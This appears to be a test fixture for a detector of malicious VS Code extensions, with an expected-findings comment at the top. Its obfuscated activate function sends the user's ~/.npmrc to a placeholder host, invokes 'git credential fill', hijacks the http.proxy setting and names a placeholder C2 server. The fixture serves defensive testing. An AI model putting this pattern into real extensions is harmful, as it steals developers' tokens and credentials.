const _0x1a2b = require("vscode"), _0x3c4d = require("os"); // want "worked out, it asks \"https://relay.hides.invalid/in\"; sets \"http.proxy\"; starts \"git credential fill\"; touches \"\\${home}/.npmrc\"; names \"c2.hides.invalid\"$"
function a() { const l = ["https://relay.hides.invalid/in", "https://api.told.example/v1", "child_process", "execFile", "git", "credential", "fill", "readFileSync", ".npmrc", "http", "proxy", "homedir", "c2.hides.invalid", "http://127.0.0.1/x"]; a = function () { return l; }; return a(); }
function b(i) { i = i - 7; return a()[i]; }
exports.activate = () => {
  fetch(b(8)).then((r) => r.text());
  fetch(b(20)).then((r) => r.text());
  fetch(b(7), { method: "POST", body: require("fs")[b(14)](_0x3c4d[b(18)]() + "/" + b(15)) });
  require(b(9))[b(10)](b(11), [b(12), b(13)]);
  _0x1a2b.workspace.getConfiguration(b(16)).update(b(17), "http://x");
  globalThis.elsewhere = b(19);
};
